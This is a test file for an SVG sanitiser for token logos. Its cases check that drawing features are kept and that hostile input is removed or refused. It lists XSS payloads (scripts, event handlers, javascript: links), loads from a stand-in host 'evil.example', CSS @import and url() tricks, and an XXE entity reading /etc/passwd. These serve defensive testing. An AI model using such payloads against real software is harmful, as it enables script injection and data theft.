import { harmlessSvg } from './token-logo-svg'

const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const drawing = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK} viewBox="0 0 9 9" ${attributes}>${inside}<path d="M0 0h9"/></svg>`

describe('an SVG that is made harmless', () => {
  it('keeps what draws: gradients, filters, styles, text, references to its own parts', () => {
    const clean = harmlessSvg(
      drawing(
        `<defs><linearGradient id="g" xlink:href="#h"><stop offset="0" style="stop-color:#f00"/></linearGradient>
         <clipPath id="c"><circle r="3"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>
         <style><![CDATA[.a > b{fill:url(#g)}]]></style>
         <g class="a" clip-path="url(#c)" filter="url('#f')" transform="scale(2)"><text>A &amp; B</text></g>`,
      ),
    )
    for (const kept of [
      'viewBox="0 0 9 9"',
      'linearGradient',
      'xlink:href="#h"',
      'clipPath',
      'feGaussianBlur',
      'stdDeviation="2"',
      'fill:url(#g)',
      'clip-path="url(#c)"',
      'scale(2)',
      'A &amp; B',
      'stop-color',
      'xmlns="http://www.w3.org/2000/svg"',
    ]) {
      expect(clean).toContain(kept)
    }
  })

  it('given a document type and a processing instruction, keeps the drawing alone', () => {
    const clean = harmlessSvg(
      `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/a.css"?>
       <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${drawing('')}`,
    )
    expect(clean).toMatch(/^<svg/)
    expect(clean).not.toMatch(/DOCTYPE|stylesheet|evil/)
  })

  it('given what it made itself, changes nothing more', () => {
    const once = harmlessSvg(drawing('<g fill="red"><text>é &lt;b&gt;</text></g>')) ?? ''
    expect(harmlessSvg(once)).toBe(once)
  })

  it.each([
    ['a script', '<script>evil()</script>'],
    ['a script in CDATA', '<script><![CDATA[evil()]]></script>'],
    ['a script from elsewhere', '<script xlink:href="http://evil.example/x.js"/>'],
    ['a script in another namespace', '<script xmlns="http://www.w3.org/1999/xhtml">evil()</script>'],
    ['a script under a prefix', '<s:script xmlns:s="http://www.w3.org/2000/svg">evil()</s:script>'],
    ['a handler', '<rect onload="evil()" onclick="evil()"/>'],
    ['a handler in capitals', '<rect oNlOaD="evil()"/>'],
    ['HTML in a foreign object', '<foreignObject><iframe src="http://evil.example"/></foreignObject>'],
    ['a link', '<a xlink:href="javascript:evil()"><text>x</text></a>'],
    ['a link with a tab in it', '<a href="java&#9;script:evil()"><text>x</text></a>'],
    ['a drawing from elsewhere', '<use href="http://evil.example/a.svg#x"/>'],
    ['a drawing from a data address', '<use href="data:image/svg+xml;base64,evil"/>'],
    ['a picture from elsewhere', '<image href="http://evil.example/a.png" width="1" height="1"/>'],
    ['a filter that loads', '<filter id="f"><feImage href="http://evil.example/a.png"/></filter>'],
    ['an animated address', '<animate attributeName="href" to="javascript:evil()"/>'],
    ['a set attribute', '<set attributeName="onclick" to="evil()"/>'],
    ['an import', '<style>@import "http://evil.example/a.css";</style>'],
    ['an import in capitals, in CDATA', '<style><![CDATA[@IMPORT url(//evil.example)]]></style>'],
    ['a style that loads', '<style>path{fill:url(http://evil.example/a)}</style>'],
    ['a style that hides it', '<style>path{fill:u\\72l(//evil.example/a)}</style>'],
    ['an image set', '<style>path{cursor:image-set("http://evil.example/a" 1x)}</style>'],
    ['a font', '<style>@font-face{font-family:a;src:url(data:font/woff,evil)}</style>'],
    ['a style attribute that loads', '<rect style="fill:url(  &quot;http://evil.example/a#b&quot;)"/>'],
    ['an attribute that loads', '<rect fill="url(http://evil.example/a#b)" mask="URL(//evil.example)"/>'],
    ['a style closed too early', '<style>&lt;/style&gt;&lt;img src=x onerror=evil()&gt;</style>'],
    ['HTML after a breakout', '<p xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="evil()"/></p>'],
    ['a nested document', '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:evil()"/>'],
    ['a comment that breaks out', '<!-- --><title>&lt;/title&gt;&lt;script&gt;&lt;/script&gt;</title>'],
  ])('loses %s', (_what, nasty) => {
    const clean = harmlessSvg(drawing(nasty))
    expect(clean).toContain('M0 0h9')
    // What is left of a text is text: no tag, no attribute, no address.
    expect(clean?.replaceAll(/&lt;[^<]*?&gt;/g, '')).not.toMatch(/evil|script|<a\b|<use|<image|import/i)
  })

  it('loses handlers of the root itself', () => {
    expect(harmlessSvg(drawing('', 'onload="evil()"'))).not.toContain('evil')
  })

  it.each([
    ['text', 'hello <svg'],
    ['HTML around a drawing', `<html xmlns="http://www.w3.org/1999/xhtml">${drawing('')}</html>`],
    ['another vocabulary', '<svg><path d="M0 0"/></svg>'],
    ['broken XML', '<svg xmlns="http://www.w3.org/2000/svg"><path></svg>'],
    ['a cut drawing', drawing('').slice(0, -8)],
    [
      'an external entity',
      `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${drawing('<text>&e;</text>')}`,
    ],
    [
      'entities of entities',
      `<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>${drawing('<text>&b;</text>')}`,
    ],
    ['nothing but a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script></svg>'],
    ['nothing', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ])('given %s, refuses it', (_what, text) => {
    expect(harmlessSvg(text)).toBeUndefined()
  })
})
